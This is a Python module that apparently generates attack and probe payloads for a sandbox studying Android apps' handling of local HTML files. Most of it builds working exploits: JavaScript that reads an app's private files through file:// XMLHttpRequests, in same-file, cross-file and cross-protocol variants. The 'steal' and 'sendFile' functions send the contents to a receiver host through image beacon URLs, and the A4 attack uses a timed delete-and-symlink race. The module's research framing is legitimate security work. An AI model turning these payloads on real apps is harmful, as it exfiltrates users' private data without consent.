"""Attack and characterization payloads.

Each payload carries two equivalent forms: the HTML text a real browser
would execute, and a structured plan the sandbox interprets directly.
"""

from __future__ import annotations

import enum
import posixpath
from dataclasses import dataclass
from typing import Optional, Union

from .wire import MAX_CON_BYTES, REQFLAG, BeaconTarget, file_url, private_path, sdcard_path

A4_FIRE_MS = 8000
A4_SWAP_MS = 3000
EXPLOIT_DIR = "exploits"


class AttackId(enum.IntEnum):
    A1 = 1
    A2 = 2
    A3 = 3
    A4 = 4
    PROBE_FILE_SD = 5
    PROBE_FILE_PRIVATE = 6
    PROBE_JS = 7

    @property
    def is_probe(self) -> bool:
        return self >= AttackId.PROBE_FILE_SD

    @property
    def label(self) -> str:
        return self.name if not self.is_probe else f"P{int(self)}"


ATTACKS = (AttackId.A1, AttackId.A2, AttackId.A3, AttackId.A4)
SCRIPTED_ATTACKS = (AttackId.A2, AttackId.A3, AttackId.A4)
PROBES = (AttackId.PROBE_FILE_SD, AttackId.PROBE_FILE_PRIVATE, AttackId.PROBE_JS)


class SpecError(ValueError):
    pass


class FetchKind(str, enum.Enum):
    SAME_FILE = "same_file"
    CROSS_FILE = "cross_file"
    CROSS_PROTOCOL = "cross_protocol"
    SELF_DOCUMENT = "self_document"


class Context(str, enum.Enum):
    HTML = "html"          # plain markup, loads whether or not scripts run
    SCRIPT = "script"      # built by JavaScript
    NOSCRIPT = "noscript"  # rendered only when scripts are disabled


@dataclass(frozen=True)
class ImageBeacon:
    target: BeaconTarget
    con: str
    context: Context


@dataclass(frozen=True)
class FetchAndSend:
    """Asynchronous read of ``url`` whose response text is beaconed out."""

    kind: FetchKind
    url: Optional[str]  # None means document.URL at execution time
    target: BeaconTarget
    delay_ms: int = 0


Step = Union[ImageBeacon, FetchAndSend]


@dataclass(frozen=True)
class Staging:
    zone: str  # "sdcard" or "private"
    path: str  # relative to the zone root

    def device_path(self, pkg: str) -> str:
        if self.zone == "private":
            return private_path(pkg, self.path)
        return sdcard_path(self.path)


@dataclass(frozen=True)
class DeleteAndSymlink:
    doc_path: str     # device path of the staged document
    link_target: str  # device path of the sensitive file
    delay_ms: int = A4_SWAP_MS


@dataclass(frozen=True)
class AttackSpec:
    attack_id: AttackId
    target_package: str
    device_version: str
    key_id: str
    receiver_base: str
    target_file: Optional[str] = None
    remote_origin: Optional[str] = None
    swap_delay_ms: int = A4_SWAP_MS

    def validate(self) -> None:
        if not self.target_package:
            raise SpecError("target_package is required")
        if not self.key_id:
            raise SpecError("key_id must be non-empty")
        if not self.receiver_base:
            raise SpecError("receiver_base is required")
        if self.attack_id in (AttackId.A1, AttackId.A2, AttackId.A4):
            if not self.target_file:
                raise SpecError(f"{self.attack_id.name} requires target_file")
            norm = posixpath.normpath(self.target_file)
            if norm.startswith(("/", "..")):
                raise SpecError(f"target_file must be relative to the private zone: "
                                f"{self.target_file!r}")
        if self.attack_id is AttackId.A3 and not self.remote_origin:
            raise SpecError("A3 requires remote_origin")
        if self.attack_id is AttackId.A4 and not 0 < self.swap_delay_ms < A4_FIRE_MS:
            raise SpecError(f"A4 swap delay must lie in (0, {A4_FIRE_MS}) ms")


@dataclass(frozen=True)
class Payload:
    attack: AttackId
    load_url: str
    html_text: str
    plan: tuple[Step, ...] = ()
    staging: Optional[Staging] = None
    followup: Optional[DeleteAndSymlink] = None
    # A1 success is a file landing in Download/ rather than a beacon
    expect_download: Optional[str] = None


FILE_PROBE_HTML = "<html><body>  <img src='{url}'>  </body></html>"

JS_PROBE_HTML = """<html><body>
<script>
var d = document; var img = d.createElement('img');
img.src = '{script_url}';
d.body.appendChild(img);
</script>
<noscript>
<img src='{noscript_url}'>
</noscript>
</body></html>"""

_SEND_FILE_JS = """function sendFile(txt) {{
  var con = encodeURIComponent(txt.substring(0, {limit}));
  var extra = txt.length > {limit} ? '&trunc=1' : '';
  var img = document.createElement('img');
  img.src = '{prefix}' + con + '{suffix}' + extra;
  document.body.appendChild(img);
}}"""

_READ_JS = """function steal() {{
  var xhr = new XMLHttpRequest();
  xhr.onload = function() {{ sendFile(xhr.responseText); }};
  xhr.open('GET', aim, true);
  xhr.send(null);
}}"""

ATTACK_HTML = """<html><body>
<script>
{send_file}
{aim}
{read}
{trigger}
</script>
</body></html>
"""


def _beacon(spec: AttackSpec) -> BeaconTarget:
    return BeaconTarget(spec.receiver_base, spec.target_package, int(spec.attack_id),
                        spec.device_version, spec.key_id)


def staging_for(attack: AttackId, pkg: str) -> Staging:
    zone = "private" if attack is AttackId.PROBE_FILE_PRIVATE else "sdcard"
    return Staging(zone, f"{EXPLOIT_DIR}/{pkg}/{int(attack)}.html")


def _attack_html(target: BeaconTarget, aim_js: str, delay_ms: int) -> str:
    send_file = _SEND_FILE_JS.format(limit=MAX_CON_BYTES, prefix=target.prefix,
                                     suffix=target.suffix)
    trigger = f"setTimeout(steal, {delay_ms});" if delay_ms else "steal();"
    return ATTACK_HTML.format(send_file=send_file, aim=aim_js, read=_READ_JS.format(),
                              trigger=trigger)


def forge(spec: AttackSpec) -> Payload:
    spec.validate()
    pkg = spec.target_package
    atk = spec.attack_id
    target = _beacon(spec)

    if atk is AttackId.A1:
        victim = private_path(pkg, spec.target_file)
        return Payload(atk, file_url(victim), "", expect_download=posixpath.basename(victim))

    staging = staging_for(atk, pkg)
    doc_url = file_url(staging.device_path(pkg))

    if atk in (AttackId.PROBE_FILE_SD, AttackId.PROBE_FILE_PRIVATE):
        html = FILE_PROBE_HTML.format(url=target.url(REQFLAG))
        plan = (ImageBeacon(target, REQFLAG, Context.HTML),)
        return Payload(atk, doc_url, html, plan, staging)

    if atk is AttackId.PROBE_JS:
        html = JS_PROBE_HTML.format(script_url=target.url(REQFLAG), noscript_url=target.url(""))
        plan = (ImageBeacon(target, REQFLAG, Context.SCRIPT),
                ImageBeacon(target, "", Context.NOSCRIPT))
        return Payload(atk, doc_url, html, plan, staging)

    if atk is AttackId.A2:
        victim = file_url(private_path(pkg, spec.target_file))
        step = FetchAndSend(FetchKind.CROSS_FILE, victim, target)
        html = _attack_html(target, f"var aim = '{victim}';", 0)
        return Payload(atk, doc_url, html, (step,), staging)

    if atk is AttackId.A3:
        step = FetchAndSend(FetchKind.CROSS_PROTOCOL, spec.remote_origin, target)
        html = _attack_html(target, f"var aim = '{spec.remote_origin}';", 0)
        return Payload(atk, doc_url, html, (step,), staging)

    # A4: read our own URL late, after the harness has swapped in a symlink
    step = FetchAndSend(FetchKind.SELF_DOCUMENT, None, target, delay_ms=A4_FIRE_MS)
    html = _attack_html(target, "var aim = document.URL;", A4_FIRE_MS)
    followup = DeleteAndSymlink(staging.device_path(pkg), private_path(pkg, spec.target_file),
                                spec.swap_delay_ms)
    return Payload(atk, doc_url, html, (step,), staging, followup)
